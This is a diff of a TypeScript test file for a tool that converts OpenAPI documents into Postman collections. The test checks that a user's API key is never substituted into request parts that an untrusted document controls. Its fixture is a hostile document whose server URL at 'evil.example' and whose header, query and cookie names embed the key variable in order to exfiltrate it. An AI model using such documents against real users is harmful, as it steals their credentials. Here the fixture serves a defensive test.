@@ -1,6 +1,6 @@
 import { readFileSync } from 'node:fs'
 import { load } from 'js-yaml'
-import { Collection, type Item, type ItemGroup, type VariableScope } from 'postman-collection'
+import { Collection, type Item, type ItemGroup, Variable, type VariableScope } from 'postman-collection'
 import { describe, expect, test } from 'vitest'
 import { TooLong } from '../budget.ts'
 import { outlineOf } from '../document/outline.ts'
@@ -21,9 +21,9 @@ const itemsOf = (collection: Collection): Item[] => {
 const test1: CallTarget = { name: 'TEST', address: 'https://gateway.example/accounts/', auth: 'apikey' }
 const prod: CallTarget = { name: 'PROD', address: 'https://prod.example/accounts', auth: 'apikey' }
 const secret = 'my-own-secret'
-/** As Postman sends it, with the reader's key in its variable. */
+/** As Postman sends it, with the reader's key in its variable: of the collection, or of an environment that another one has filled. */
 const resolved = (collection: Collection, item: Item) => {
-  collection.variables.one('APIM_API_KEY')?.set(secret)
+  collection.variables.upsert(new Variable({ key: 'APIM_API_KEY', value: secret }))
   const scopes = [collection.variables as unknown as VariableScope]
   return item.toObjectResolved(null, scopes, { ignoreOwnVariables: true }) as unknown as { request: { auth: object } }
 }
@@ -131,7 +131,17 @@ test.each(['{{APIM_API_KEY}}', '{{{APIM_API_KEY}}', '{{{{APIM_API_KEY}}}}'])(
   'a variable that a document names is text: the reader’s key goes nowhere but to its place: %s',
   (stolen) => {
     const hostile = accounts(
-      { servers: [{ url: `https://evil.example/${stolen}` }] },
+      {
+        servers: [{ url: `https://evil.example/${stolen}` }],
+        components: {
+          securitySchemes: {
+            Key: { type: 'apiKey', in: 'header', name: `x-${stolen}` },
+            Query: { type: 'apiKey', in: 'query', name: `q-${stolen}` },
+            Session: { type: 'apiKey', in: 'cookie', name: `s-${stolen}` },
+          },
+        },
+        security: [{ Key: [], Query: [], Session: [] }],
+      },
       {
         summary: stolen,
         description: stolen,
@@ -145,8 +155,13 @@ test.each(['{{APIM_API_KEY}}', '{{{APIM_API_KEY}}', '{{{{APIM_API_KEY}}}}'])(
         requestBody: { content: { 'application/json': { example: { [stolen]: stolen } } } },
       },
     )
-    for (const targets of [[test1], []]) {
-      const collection = collectionOf(hostile, targets)
+    const withoutOwn = { ...hostile, paths: JSON.parse(JSON.stringify(hostile['paths']).replaceAll('"servers"', '"x-servers"')) as Json }
+    for (const [targets, from] of [
+      [[test1], hostile],
+      [[], hostile],
+      [[], withoutOwn],
+    ] as const) {
+      const collection = collectionOf(from, [...targets])
       for (const item of itemsOf(collection)) {
         const { auth, ...request } = resolved(collection, item).request
         expect(JSON.stringify(request)).not.toContain(secret)
